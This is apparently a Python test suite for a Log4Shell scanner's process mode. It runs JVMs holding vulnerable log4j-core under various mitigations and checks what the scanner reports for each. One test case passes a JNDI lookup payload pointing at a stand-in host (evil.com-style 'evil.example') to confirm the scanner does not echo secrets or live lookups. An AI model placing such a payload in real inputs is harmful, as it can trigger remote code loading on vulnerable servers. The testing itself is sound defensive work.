"""caltrop scan --processes beside real JVMs: test_processes.py CALTROP FOLDER (made by tests/differential/prepare.sh)

All JVMs are started first, each with jars of its own, and one scan looks at them.
"""
import json
import os
import pathlib
import shutil
import subprocess
import sys
import tempfile
import threading
import time
import unittest
import zipfile

CALTROP, PREPARED = (os.path.abspath(p) for p in sys.argv[1:3])
del sys.argv[1:]
HERE = pathlib.Path(__file__).resolve().parent
DEADLINE = 120
MESSAGE, CONTEXT, RECURSION, CONFIG = "CVE-2021-44228", "CVE-2021-45046", "CVE-2021-45105", "CVE-2021-44832"
SECRET = "correct-horse-battery"
# The real file of a JDK grants this.
OWN = 'grant { permission java.util.PropertyPermission "*", "read"; permission java.lang.RuntimePermission "*"; permission java.io.FilePermission "<<ALL FILES>>", "read"; };\n'


def jar(version):
    return pathlib.Path(PREPARED) / "jars" / version / ("log4j-core-%s.jar" % version)


def await_that(condition, what):
    pause, end = threading.Event(), time.monotonic() + DEADLINE
    while not condition():
        if time.monotonic() > end:
            raise AssertionError("waited in vain for " + what)
        pause.wait(0.02)


class Jvm:
    """One JVM: java ARGUMENTS below its own folder, which holds core.jar and whichever of `files` the arguments name."""

    def __init__(self, folder, name, arguments, env=None, wrap=(), files=None):
        self.folder = folder / name
        self.folder.mkdir()
        self.jar = self.folder / "core.jar"
        shutil.copy(jar("2.14.1"), self.jar)
        for file, text in (files or {}).items():
            if any(file in a for a in arguments):
                (self.folder / file).write_text(self.fill(text))
        clean = {k: v for k, v in os.environ.items() if k not in ("JDK_JAVA_OPTIONS", "JAVA_TOOL_OPTIONS", "_JAVA_OPTIONS", "CLASSPATH")}
        clean.update({k: self.fill(v) for k, v in (env or {}).items()}, SECRET_TOKEN=SECRET)
        with open(self.folder / "stderr", "wb") as stderr:
            self.child = subprocess.Popen([*wrap, "java", "-Xshare:auto", "-XX:TieredStopAtLevel=1", "-Xmx48m", *map(self.fill, arguments)],
                                          cwd=self.folder, stdin=subprocess.PIPE, stdout=subprocess.PIPE, stderr=stderr, env=clean)

    def fill(self, text):
        for name, value in (("DIR", self.folder), ("CLASSES", self.folder.parent / "classes"), ("AGENT", self.folder.parent / "Log4jHotPatchTest.jar"),
                            ("TOOL", self.folder.parent / "tool.jar")):
            text = text.replace("@%s@" % name, str(value))
        return text

    @property
    def pid(self):
        return self.child.pid

    def ready(self):
        line = self.child.stdout.readline()
        assert line == b"ready\n", (self.folder.name, line, (self.folder / "stderr").read_bytes()[-2000:])

    def age(self):
        ticks = int(pathlib.Path("/proc/%d/stat" % self.pid).read_text().rsplit(")", 1)[1].split()[19])
        return time.clock_gettime(time.CLOCK_BOOTTIME) - ticks / os.sysconf("SC_CLK_TCK")

    def stop(self):
        self.child.kill()
        self.child.wait(DEADLINE)
        self.child.stdin.close()
        self.child.stdout.close()


PLAIN = ["-cp", "@CLASSES@:@DIR@/core.jar", "Holder"]
# name: arguments, environment, further
CASES = {
    "plain": (PLAIN, {}),
    "flag": (["-Dlog4j2.formatMsgNoLookups=true", *PLAIN], {}),
    "flag_old_spelling": (["-Dlog4j.formatMsgNoLookups=TRUE", *PLAIN], {}),
    "flag_value_1": (["-Dlog4j2.formatMsgNoLookups=1", *PLAIN], {}),
    "flag_behind_main": ([*PLAIN, "-Dlog4j2.formatMsgNoLookups=true"], {}),
    "flag_overridden": (["-Dlog4j2.formatMsgNoLookups=true", "-Dlog4j2.formatMsgNoLookups=false", *PLAIN], {}),
    "tool_options": (PLAIN, {"JAVA_TOOL_OPTIONS": "-Dlog4j2.formatMsgNoLookups=true"}),
    "jdk_options": (PLAIN, {"JDK_JAVA_OPTIONS": "'-Dlog4j2.formatMsgNoLookups=true'"}),
    "argument_file": (["@@DIR@/args"], {}),
    "environment": (PLAIN, {"LOG4J_FORMAT_MSG_NO_LOOKUPS": "true"}),
    "environment_wrong_name": (PLAIN, {"LOG4J2_FORMAT_MSG_NO_LOOKUPS": "true"}),
    "environment_value_1": (PLAIN, {"LOG4J_FORMAT_MSG_NO_LOOKUPS": "1"}),
    "property_wins": (["-Dlog4j2.formatMsgNoLookups=false", *PLAIN], {"LOG4J_FORMAT_MSG_NO_LOOKUPS": "true"}),
    "class_path_variable": (["Holder"], {"CLASSPATH": "@CLASSES@:@DIR@/*"}),
    "manager_default_policy": (["-Djava.security.manager", "-Djava.security.policy=@DIR@/own.policy", *PLAIN], {}),
    "manager_denies": (["-Djava.security.manager=default", "-Djava.security.policy==@DIR@/own.policy", *PLAIN], {}),
    "manager_grants": (["-Djava.security.manager", "-Djava.security.policy==@DIR@/open.policy", *PLAIN], {}),
    "manager_grants_others": (["-Djava.security.manager", "-Djava.security.policy==@DIR@/other.policy", *PLAIN], {}),
    "manager_grants_by_property": (["-Djava.security.manager", "-Dhome=@DIR@", "-Djava.security.policy==@DIR@/property.policy", *PLAIN], {}),
    "manager_in_code": (["-cp", "@CLASSES@:@DIR@/core.jar", "InCode"], {}),
    "manager_known_program": (["-cp", "@CLASSES@:@DIR@/core.jar", "org.elasticsearch.bootstrap.Elasticsearch"], {}),
    "manager_disallowed": (["-Djava.security.manager=disallow", *PLAIN], {}),
    "agent": (["-javaagent:@AGENT@=password", *PLAIN], {}),
    "agent_renamed": (["-javaagent:@TOOL@", *PLAIN], {}),
    "agent_attached": (PLAIN, {}),
    "agent_attached_deleted": (PLAIN, {}),
    "agent_only_on_class_path": (["-cp", "@CLASSES@:@TOOL@:@DIR@/core.jar", "Holder"], {}),
    "agent_never_attached": (["-cp", "@CLASSES@:@DIR@/core.jar", "Reader", "@TOOL@"], {}),
    "deleted": (PLAIN, {}),
    "deleted_flag": (["-Dlog4j2.formatMsgNoLookups=true", *PLAIN], {}),
    "replaced": (PLAIN, {}),
    "replaced_by_as_bad": (PLAIN, {}),
    "overwritten": (PLAIN, {}),
    "hostile": (["-Dpassword=" + SECRET, "-Dx=${jndi:ldap://evil.example/a}", *PLAIN], {}),
}
# What the arguments name in a JVM's own folder.
FILES = {
    "own.policy": OWN,
    "open.policy": OWN + 'grant { permission java.net.SocketPermission "*", "connect,resolve"; };\n',
    "other.policy": OWN + 'grant codeBase "file:/opt/elsewhere/-" { permission java.security.AllPermission; };\n',
    "property.policy": OWN + 'grant codeBase "file:${home}/-" { permission java.net.SocketPermission "*:1024-", "connect"; };\n',
    "args": '-Dlog4j2.formatMsgNoLookups=true # the switch\n-cp "@CLASSES@:@DIR@/core.jar"\nHolder\n',
}


def prepare(folder):
    subprocess.run(["javac", "-nowarn", "-Xlint:none", "-d", str(folder / "classes"), "-sourcepath", str(HERE / "java"),
                    *(str(p) for p in (HERE / "java").rglob("*.java"))], check=True, stderr=subprocess.DEVNULL)
    with zipfile.ZipFile(folder / "Log4jHotPatchTest.jar", "w") as z:
        z.writestr("META-INF/MANIFEST.MF", "Manifest-Version: 1.0\nPremain-Class: PatchAgent\n")
        z.write(folder / "classes/PatchAgent.class", "PatchAgent.class")
    for jar_name, agent in (("tool.jar", "Log4jHotPatch"), ("gone.jar", "Log4jHotPatch"), ("other.jar", "PatchAgent")):
        with zipfile.ZipFile(folder / jar_name, "w", zipfile.ZIP_DEFLATED) as z:
            z.write(folder / ("classes/%s.class" % agent), agent + ".class")
            z.writestr("META-INF/MANIFEST.MF", "Manifest-Version: 1.0\nAgent-Class: %s\nPremain-Class: %s\n" % (agent, agent))
    for agent in ("Log4jHotPatch", "PatchAgent"):
        (folder / "classes" / (agent + ".class")).unlink()  # an agent is found in its jar, or not at all


class Processes(unittest.TestCase):
    maxDiff = None

    @classmethod
    def setUpClass(cls):
        cls.folder = pathlib.Path(tempfile.mkdtemp(prefix="caltrop-jvm-"))
        cls.jvms = {}
        try:
            prepare(cls.folder)
            names = list(CASES)
            for i in range(0, len(names), 6):  # a few at a time: two processors
                for name in names[i:i + 6]:
                    cls.start(name)
                for name in names[i:i + 6]:
                    cls.jvms[name].ready()
            cls.attach()
            cls.change()
            cls.scan()
        except BaseException:
            cls.tearDownClass()
            raise

    @classmethod
    def start(cls, name):
        arguments, env = CASES[name]
        cls.jvms[name] = Jvm(cls.folder, name, arguments, env, files=FILES)

    @classmethod
    def attach(cls):
        """What is loaded into running JVMs."""
        loads = (("agent_attached", "tool.jar"), ("agent_attached_deleted", "gone.jar"), ("agent_only_on_class_path", "other.jar"))
        subprocess.run(["java", "-Xmx48m", "-cp", str(cls.folder / "classes"), "Attach",
                        *(word for name, agent in loads for word in (str(cls.jvms[name].pid), str(cls.folder / agent)))], check=True, timeout=DEADLINE)
        (cls.folder / "gone.jar").unlink()

    @classmethod
    def change(cls):
        """What happens to the jars of running JVMs."""
        for name in ("deleted", "deleted_flag"):
            cls.jvms[name].jar.unlink()
        for name, version in (("replaced", "2.17.1"), ("replaced_by_as_bad", "2.13.0")):
            new = cls.folder / "new.jar"
            shutil.copy(jar(version), new)
            new.replace(cls.jvms[name].jar)
        await_that(lambda: cls.jvms["overwritten"].age() > 1, "a JVM that is older than a second")
        shutil.copyfile(jar("2.17.1"), cls.jvms["overwritten"].jar)

    @classmethod
    def scan(cls):
        done = subprocess.run([CALTROP, "scan", "-q", "--json", "--processes", str(cls.folder)], stdout=subprocess.PIPE, stderr=subprocess.PIPE, timeout=300,
                              check=False)
        cls.raw = done.stdout + done.stderr
        assert done.returncode in (1, 3), (done.returncode, done.stderr)
        cls.events = [json.loads(line) for line in done.stdout.splitlines()]
        cls.table = subprocess.run([CALTROP, "scan", "-q", "--processes", str(cls.folder)], stdout=subprocess.PIPE, timeout=300, check=False).stdout

    @classmethod
    def tearDownClass(cls):
        for jvm in cls.jvms.values():
            jvm.stop()
        shutil.rmtree(cls.folder, ignore_errors=True)

    def finding(self, name, cve):
        path = str(self.jvms[name].jar)
        found = [e for e in self.events if e.get("vulnerability", {}).get("id") == [cve] and e["file"]["path"] == path]
        self.assertLessEqual(len(found), 1, (name, cve))
        return found[0] if found else None

    def process(self, name, cve=CONFIG):
        return [p for p in self.finding(name, cve)["caltrop"]["processes"] if p["pid"] == self.jvms[name].pid][0]

    def expect(self, name, message, context, recursion, config, how=None, says=()):
        for cve, state in ((MESSAGE, message), (CONTEXT, context), (RECURSION, recursion), (CONFIG, config)):
            with self.subTest(case=name, cve=cve):
                event = self.finding(name, cve)
                self.assertEqual(event["caltrop"]["state"] if event else None, state, event)
        with self.subTest(case=name):
            process = self.process(name, MESSAGE)
            if how:
                self.assertIn(how, process["how"])
            for text in says:
                self.assertIn(text, process["controls"])
            return process

    def test_running(self):
        process = self.expect("plain", *["affected"] * 4, how="holds it open", says=["Security Manager unknown"])
        self.assertEqual(process["name"], "java")
        self.assertRegex(process["java"], r"^\d+\.")
        self.assertIn("start", process)
        self.assertTrue(process["user"])

    def test_no_lookups(self):
        for name in ("flag", "flag_old_spelling", "tool_options", "jdk_options", "argument_file", "environment"):
            self.expect(name, "mitigated", "affected", "affected", "affected", says=["the no-lookups switch is on"])
        for name in ("flag_value_1", "flag_behind_main", "flag_overridden", "environment_wrong_name", "environment_value_1", "property_wins"):
            self.expect(name, *["affected"] * 4)

    def test_class_path_of_the_environment(self):
        self.expect("class_path_variable", *["affected"] * 4, how="holds it open")

    def test_security_manager(self):
        for name in ("manager_denies", "manager_default_policy", "manager_grants_others"):
            self.expect(name, "mitigated", "mitigated", "affected", "affected", says=["neither connect nor resolve"])
        for name in ("manager_grants", "manager_grants_by_property"):
            self.expect(name, *["affected"] * 4, says=["its policy lets the code connect"])
        self.expect("manager_in_code", *["affected"] * 4, says=["Security Manager unknown"])
        self.expect("manager_known_program", *["affected"] * 4, says=["Elasticsearch installs a Security Manager", "not known"])
        self.assertNotIn("Security Manager", self.expect("manager_disallowed", *["affected"] * 4).get("controls", ""))

    def test_agent(self):
        self.expect("agent", "mitigated", "mitigated", "affected", "affected", says=["Corretto hotpatch"])

    def test_agent_of_another_name(self):
        for name in ("agent_renamed", "agent_attached", "agent_attached_deleted"):
            self.expect(name, "mitigated", "mitigated", "affected", "affected", says=["agent Corretto hotpatch (class Log4jHotPatch)"])
        # Its jar is there, and another agent has been attached; or it is open, and none was.
        self.expect("agent_only_on_class_path", *["affected"] * 4, says=["something has attached"])
        for name in ("agent_only_on_class_path", "agent_never_attached"):
            self.assertNotIn("hotpatch", self.expect(name, *["affected"] * 4)["controls"])

    def test_old_code(self):
        self.expect("deleted", *["fixed_on_disk"] * 4, how="holds the deleted file open: log4j-core 2.14.1")
        self.expect("deleted_flag", "mitigated", *["fixed_on_disk"] * 3)
        self.expect("replaced", *["fixed_on_disk"] * 4, how="holds the deleted file open: log4j-core 2.14.1")
        self.expect("replaced_by_as_bad", *["affected"] * 4)
        self.expect("overwritten", *["fixed_on_disk"] * 4, how="started before the file changed")

    def test_nothing_secret_and_nothing_live(self):
        self.expect("hostile", *["affected"] * 4)
        for text in (self.raw, self.table):
            self.assertNotIn(SECRET.encode(), text)
            self.assertNotIn(b"${", text)
            self.assertNotIn(b"password", text)

    def test_people_see_it_too(self):
        self.assertIn(b"run by %d java" % self.jvms["plain"].pid, self.table.replace(b"\n    ", b" "))


class Apart(unittest.TestCase):
    """A JVM in a file tree of its own, which no walk reaches."""

    def test_another_mount_namespace(self):
        if os.geteuid() != 0 or subprocess.run(["unshare", "-m", "true"], check=False, stderr=subprocess.DEVNULL).returncode != 0:
            self.skipTest("mount namespaces need root")
        folder = pathlib.Path(tempfile.mkdtemp(prefix="caltrop-jvm-"))
        jvm = None
        try:
            prepare(folder)
            (folder / "hidden").mkdir()
            script = 'mount -t tmpfs none "$0" && cp "$1" "$0/core.jar" && ln -s core.jar "$0/link.jar" && shift && exec "$@"'
            jvm = Jvm(folder, "apart", ["-cp", "@CLASSES@:%s/link.jar" % (folder / "hidden"), "Holder"],
                      wrap=["unshare", "-m", "sh", "-c", script, str(folder / "hidden"), str(jar("2.14.1"))])
            jvm.ready()
            done = subprocess.run([CALTROP, "scan", "-q", "--json", "--processes", str(folder / "classes")], stdout=subprocess.PIPE, check=False, timeout=300)
            found = [e for e in map(json.loads, done.stdout.splitlines())
                     if any(p["pid"] == jvm.pid for p in e.get("caltrop", {}).get("processes", []) if isinstance(p, dict))]
            self.assertTrue(any(e["vulnerability"]["id"] == [MESSAGE] and e["caltrop"]["state"] == "affected" for e in found), found)
            for e in found:
                self.assertRegex(e["file"]["path"], r"^(proc|unit|docker|podman|kubernetes|containerd)://[^/]+" + str(folder / "hidden") + "/core.jar$")
        finally:
            if jvm:
                jvm.stop()
            shutil.rmtree(folder)


if not shutil.which("javac"):
    print("javac is not installed (Debian: openjdk-17-jdk-headless)")
    sys.exit(77)
ready = subprocess.run([str(HERE / "../../differential/prepare.sh"), PREPARED], stdout=subprocess.PIPE, check=False)
if ready.returncode != 0:
    print(ready.stdout.decode().splitlines()[-1])
    sys.exit(ready.returncode)
unittest.main(verbosity=2)
